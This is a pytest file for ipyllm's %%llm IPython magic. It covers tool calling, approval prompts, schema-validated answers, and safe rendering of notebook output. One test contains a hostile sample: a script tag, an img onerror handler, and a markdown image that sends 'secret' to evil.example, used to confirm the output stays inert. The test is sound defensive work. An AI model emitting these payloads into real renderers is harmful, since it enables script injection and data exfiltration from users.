"""``%%llm --tools / --approve / --max-tool-rounds / --schema`` through a real IPython shell
(in process: the terminal path) against the loopback fake server; then the static bundle
such a cell leaves in a notebook, inert whatever the model or a tool wrote."""

from __future__ import annotations

import builtins
import json
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, TypedDict

import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from pydantic import BaseModel

import ipyllm
from fake_endpoints import fake_endpoint
from hostile_corpus import (
    Case,
    assert_inert_html,
    cases,
    render_with_markdown_it,
    render_with_marked,
)
from ipyllm._magic import render
from ipyllm._manager.turn import Turn
from ipyllm._types import ToolCall
from ipyllm.testing import FakeLLMServer, Reply
from magic_helpers import cell

pytestmark = pytest.mark.usefixtures("restore_provider_settings")


@pytest.fixture
def model(fake: FakeLLMServer) -> str:
    """A keyless endpoint on the fake server; returns its ``provider:model``."""
    return fake_endpoint(fake)


def get_weather(city: str) -> dict[str, Any]:
    """Current weather for a city.

    Args:
        city: The city's name.
    """
    return {"city": city, "temp_c": {"Paris": 20, "Rome": 25}.get(city, 15)}


class City(BaseModel):
    name: str
    population: int


@pytest.fixture
def ns(ip: InteractiveShell) -> Iterator[dict[str, Any]]:
    """The shell's namespace with the tools and schemas the tests name."""
    names = {"get_weather": get_weather, "City": City, "not_a_function": 42}
    ip.user_ns.update(names)
    yield ip.user_ns
    for name in names:
        ip.user_ns.pop(name, None)


def usage_error(result: Any) -> str:
    assert isinstance(result.error_in_exec, UsageError), result.error_in_exec
    message = str(result.error_in_exec)
    assert "\n" not in message, message
    return message


def call(name: str, /, **args: Any) -> dict[str, Any]:
    return {"name": name, "arguments": args}


def last_turn(title: str = "llm") -> Turn:
    turn = ipyllm.manager().tab(title).last
    assert turn is not None
    return turn


def tool_messages(body: dict[str, Any]) -> list[str]:
    return [m["content"] for m in body["messages"] if m["role"] == "tool"]


# ---- --tools and --approve auto --------------------------------------------------------


def test_tools_named_on_the_line_run_with_approve_auto(
    ip: InteractiveShell,
    ns: dict[str, Any],
    fake: FakeLLMServer,
    model: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    fake.add_reply(Reply("Let me check.", tool_calls=[call("get_weather", city="Paris")]))
    fake.add_reply(Reply("It is 20 °C in Paris."))
    capsys.readouterr()
    result = cell(ip, f"{model} --tools get_weather --approve auto -o r", "Weather in Paris?")
    assert result.success, result.error_in_exec

    r = ns["r"]
    assert r.text == "It is 20 °C in Paris."
    assert [(c.name, c.args, c.status) for c in r.tool_calls] == [
        ("get_weather", {"city": "Paris"}, "done")
    ]
    first, second = fake.requests
    assert [t["function"]["name"] for t in first.json["tools"]] == ["get_weather"]
    assert "The city's name." in json.dumps(first.json["tools"])
    assert json.loads(tool_messages(second.json)[0]) == {"city": "Paris", "temp_c": 20}
    # The terminal shows the round's text, then the call and its result, then the answer.
    out = capsys.readouterr().out
    line = '[tool get_weather {"city": "Paris"} → done, '
    assert out.index("Let me check.") < out.index(line) < out.index("It is 20 °C in Paris.")
    assert '{"city": "Paris", "temp_c": 20}]' in out
    assert "1 tool call ·" in out  # the footer


def test_max_tool_rounds_ends_the_answer_and_the_cell_shows_what_was_not_run(
    ip: InteractiveShell, ns: dict[str, Any], fake: FakeLLMServer, model: str
) -> None:
    fake.add_reply(Reply(tool_calls=[call("get_weather", city="Paris")]))
    fake.add_reply(Reply(tool_calls=[call("get_weather", city="Rome")]))
    result = cell(ip, f"{model} --tools get_weather --approve auto --max-tool-rounds 1", "Go")
    assert result.success, result.error_in_exec
    turn = last_turn()
    assert [c.status for c in turn.tool_calls] == ["done", "skipped"]
    assert turn.finish_reason == "max_tool_rounds"
    assert len(fake.requests) == 2
    markdown = render.bundle(turn, "markdown")["text/markdown"]
    assert markdown.count("**Tool call: get\\_weather**") == 2
    assert "· not run" in markdown
    assert "max\\_tool\\_rounds=1" not in markdown  # the reason is fenced, not escaped text
    assert "max_tool_rounds=1" in markdown


# ---- names that find nothing ------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("--tools get_wether", ["no function named get_wether", "did you mean get_weather?"]),
        ("--tools get_weather,nope", ["no function named nope", "functions defined in the"]),
        ("--tools not_a_function", ["not_a_function is an int, not a function"]),
        ("--tools ,", ["--tools needs the names of functions"]),
        ("--tools 'get_weather()'", ["'get_weather()' is not a name"]),
        ("--schema Cty", ["no class or dict named Cty", "did you mean City?"]),
        ("--schema not_a_function", ["schema= must be"]),
        ("--schema City -f code", ["--schema answers in JSON", "not -f code"]),
        ("--tools get_weather --max-tool-rounds -1", ["max_tool_rounds"]),
        ("--tools get_weather --approve sometimes", ["invalid choice: 'sometimes'"]),
    ],
)
def test_bad_names_and_values_are_refused_before_any_request(
    ip: InteractiveShell,
    ns: dict[str, Any],
    fake: FakeLLMServer,
    model: str,
    line: str,
    expected: list[str],
) -> None:
    message = usage_error(cell(ip, f"{model} -t bad {line}", "hi"))
    for words in expected:
        assert words in message
    assert fake.requests == []
    assert ipyllm.manager().find("bad") is None  # no tab either


# ---- --approve ask (the default) in a terminal ---------------------------------------------


def test_ask_is_the_default_and_a_terminal_asks_with_input(
    ip: InteractiveShell,
    ns: dict[str, Any],
    fake: FakeLLMServer,
    model: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[str] = []

    def answer(question: str = "") -> str:
        asked.append(question)
        return "n" if "Rome" in question else "y"

    monkeypatch.setattr(builtins, "input", answer)
    fake.add_reply(
        Reply(tool_calls=[call("get_weather", city="Paris"), call("get_weather", city="Rome")])
    )
    fake.add_reply(Reply("Paris only."))
    result = cell(ip, f"{model} --tools get_weather -o r", "Paris and Rome?")
    assert result.success, result.error_in_exec
    assert len(asked) == 2
    assert "get_weather" in asked[0]
    assert "Paris" in asked[0]
    assert [c.status for c in ns["r"].tool_calls] == ["done", "denied"]
    assert "declined" in tool_messages(fake.requests[1].json)[1]


def test_no_input_to_ask_with_declines_and_says_so(
    ip: InteractiveShell,
    ns: dict[str, Any],
    fake: FakeLLMServer,
    model: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    def closed(question: str = "") -> str:
        raise EOFError

    monkeypatch.setattr(builtins, "input", closed)
    fake.add_reply(
        Reply(tool_calls=[call("get_weather", city="Paris"), call("get_weather", city="Rome")])
    )
    fake.add_reply(Reply("Nothing ran."))
    capsys.readouterr()
    result = cell(ip, f"{model} --tools get_weather", "Weather?")
    assert result.success, result.error_in_exec
    assert [c.status for c in last_turn().tool_calls] == ["denied", "denied"]
    err = capsys.readouterr().err
    assert err.count("no input to ask with") == 1  # said once, not once a poll
    assert "--approve auto" in err


def test_an_interrupt_while_asking_stops_the_answer(
    ip: InteractiveShell,
    ns: dict[str, Any],
    fake: FakeLLMServer,
    model: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def ctrl_c(question: str = "") -> str:
        raise KeyboardInterrupt

    monkeypatch.setattr(builtins, "input", ctrl_c)
    fake.add_reply(Reply("Checking.", tool_calls=[call("get_weather", city="Paris")]))
    fake.add_reply(Reply("never asked for"))
    result = cell(ip, f"{model} --tools get_weather -o r", "Weather?")
    assert isinstance(result.error_in_exec, KeyboardInterrupt)
    turn = last_turn()
    assert turn.settled.is_set()
    assert turn.status == "stopped"
    assert ns["r"].text == "Checking."  # the partial, kept
    assert len(fake.requests) == 1


def test_bg_cannot_ask_in_a_terminal(
    ip: InteractiveShell, ns: dict[str, Any], fake: FakeLLMServer, model: str
) -> None:
    message = usage_error(cell(ip, f"{model} --bg --tools get_weather", "hi"))
    assert "--approve auto" in message
    assert fake.requests == []


# ---- --schema ------------------------------------------------------------------------------


@dataclass
class Point:
    x: int
    y: int


class Pair(TypedDict):
    left: str
    right: str


@pytest.mark.parametrize(
    ("schema", "sent", "stored"),
    [
        (City, {"name": "Tokyo", "population": 37}, City(name="Tokyo", population=37)),
        (Point, {"x": 1, "y": 2}, Point(1, 2)),
        (Pair, {"left": "a", "right": "b"}, {"left": "a", "right": "b"}),
        (
            {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]},
            {"n": 3},
            {"n": 3},
        ),
    ],
)
def test_schema_with_o_stores_the_validated_data(
    ip: InteractiveShell,
    fake: FakeLLMServer,
    model: str,
    schema: Any,
    sent: dict[str, Any],
    stored: Any,
) -> None:
    ip.user_ns["Shape"] = schema
    fake.add_reply(Reply(json=sent))
    result = cell(ip, f"{model} --schema Shape -o value", "Give it.")
    assert result.success, result.error_in_exec
    assert ip.user_ns["value"] == stored
    body = fake.requests[-1].json
    assert "response_format" in body  # the schema went with the request
    # Not the -f json hint: the request carries the schema itself.
    assert all(m["role"] != "system" for m in body["messages"])
    shown = render.bundle(last_turn(), "json", structured=True)["text/markdown"]
    assert f"```json\n{json.dumps(sent, indent=2)}\n```" in shown


def test_an_answer_that_does_not_fit_leaves_the_response_and_says_so(
    ip: InteractiveShell, ns: dict[str, Any], fake: FakeLLMServer, model: str
) -> None:
    fake.add_reply(Reply(json={"name": "Tokyo"}))
    message = usage_error(cell(ip, f"{model} --schema City -o city", "Largest city?"))
    assert "population" in message
    assert "city holds the Response instead of the data" in message
    assert json.loads(ns["city"].text) == {"name": "Tokyo"}


def test_f_json_and_schema_agree_on_what_o_gets(
    ip: InteractiveShell, ns: dict[str, Any], fake: FakeLLMServer, model: str
) -> None:
    fake.add_reply(Reply(json={"name": "Paris", "population": 2}))
    fake.add_reply('{"name": "Paris", "population": 2}')
    assert cell(ip, f"{model} --schema City -f json -o a", "?").success
    assert cell(ip, f"{model} -f json -o b", "?").success
    assert ns["a"] == City(name="Paris", population=2)  # the schema's type...
    assert ns["b"] == ns["a"].model_dump()  # ...and without one, the same value as JSON


# ---- the static bundle ------------------------------------------------------------------


def test_the_bundle_shows_each_round_call_and_a_formatted_json_answer(
    ip: InteractiveShell, ns: dict[str, Any], fake: FakeLLMServer, model: str
) -> None:
    fake.add_reply(Reply("Looking it up.", tool_calls=[call("get_weather", city="Paris")]))
    fake.add_reply(Reply("And Rome.", tool_calls=[call("get_weather", city="Rome")]))
    fake.add_reply(Reply(json={"name": "Rome", "population": 25}))
    line = f"{model} --tools get_weather --approve auto --schema City -o city"
    assert cell(ip, line, "Which is warmer, as a City?").success
    assert ns["city"] == City(name="Rome", population=25)

    markdown = render.bundle(last_turn(), "json", structured=True)["text/markdown"]
    order = [
        "Looking it up.",
        "**Tool call: get\\_weather** · done, ",
        '```json\n{\n  "city": "Paris"\n}\n```',
        'Result:\n\n```json\n{\n  "city": "Paris",\n  "temp_c": 20\n}\n```',
        "And Rome.",
        '"city": "Rome"',
        '```json\n{\n  "name": "Rome",\n  "population": 25\n}\n```',
        "2 tool calls",
    ]
    positions = [markdown.index(piece) for piece in order]
    assert positions == sorted(positions), markdown
    plain = render.bundle(last_turn(), "text")["text/plain"]
    assert '[tool get_weather {"city": "Rome"} → done, ' in plain


def tool_turn(case: Case) -> Turn:
    """A settled turn whose round text, call name, arguments, result and error are hostile."""
    turn = Turn(index=0, query="q", full_query=[], model="openai:m", status="done")
    turn.append("text", case.text)
    args = json.dumps({"q": case.text})
    calls = [
        ToolCall("1", "lookup", args, result=case.text, status="done", elapsed_s=0.1),
        ToolCall("2", case.text, case.text, error=f"There is no tool named {case.text!r}."),
        ToolCall("3", "lookup", args, result={"html": case.text}, status="done"),
    ]
    calls[1].status = "error"
    turn.tool_calls = calls
    turn.steps = [{"role": "assistant", "content": case.text, "tool_calls": []}]
    turn.steps[0]["tool_calls"] = [
        {"id": c.id, "name": c.name or "", "arguments": c.arguments} for c in calls[:2]
    ]
    turn.append("text", "\n\nThe answer.")
    turn.answer_from = len(case.text) + 2
    return turn


@pytest.mark.parametrize("case", cases(), ids=lambda c: c.id)
@pytest.mark.parametrize("fmt", ["markdown", "json", "html"])
def test_tool_calls_in_the_bundle_are_inert(case: Case, fmt: str) -> None:
    bundle = render.bundle(tool_turn(case), fmt)
    if "text/html" in bundle:
        assert_inert_html(bundle["text/html"], ("The answer.",))
        return
    html = render_with_markdown_it(bundle["text/markdown"])
    assert_inert_html(html, ("The answer.", "Tool call: lookup"))
    assert html.count("Tool call:") == 3  # no fence swallowed the calls after it


def test_tool_calls_in_the_bundle_are_inert_as_jupyterlab_renders_them() -> None:
    bundles = [render.bundle(tool_turn(c), "markdown")["text/markdown"] for c in cases()]
    for html in render_with_marked(bundles):
        assert_inert_html(html, ("The answer.",))
        assert html.count("Tool call:") == 3


def test_hostile_arguments_and_results_through_the_magic_stay_inert(
    ip: InteractiveShell, fake: FakeLLMServer, model: str, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = (
        "<script>window.pwned=1</script> ![x](http://evil.example/?d=secret) "
        "````\n</details><img src=x onerror=alert(1)>\n```\n\x1b]0;title\x07"
    )

    def fetch(url: str) -> str:
        """Fetch a page."""
        return hostile

    ip.user_ns["fetch"] = fetch
    fake.add_reply(Reply(tool_calls=[call("fetch", url=hostile), call(hostile, x=1)]))
    fake.add_reply(Reply("Done."))
    capsys.readouterr()
    assert cell(ip, f"{model} --tools fetch --approve auto", "Read it.").success
    out = capsys.readouterr().out
    assert "\x1b" not in out.split("Done.")[0]  # no escape sequence reached the terminal
    assert "\\x1b]0;title\\x07" in out

    markdown = render.bundle(last_turn(), "markdown")["text/markdown"]
    for html in [render_with_markdown_it(markdown), *render_with_marked([markdown])]:
        assert_inert_html(html, ("Done.", "<script>", "![x](http://evil.example/?d=secret)"))
        assert "<img" not in html
        assert "<details>" not in html
        assert html.count("Tool call:") == 2


def test_help_mentions_the_tool_options(ip: InteractiveShell) -> None:
    doc = ip.find_cell_magic("llm").__doc__ or ""
    for word in ["--tools", "--approve", "--max-tool-rounds", "--schema", "Run / Deny"]:
        assert word in doc, word
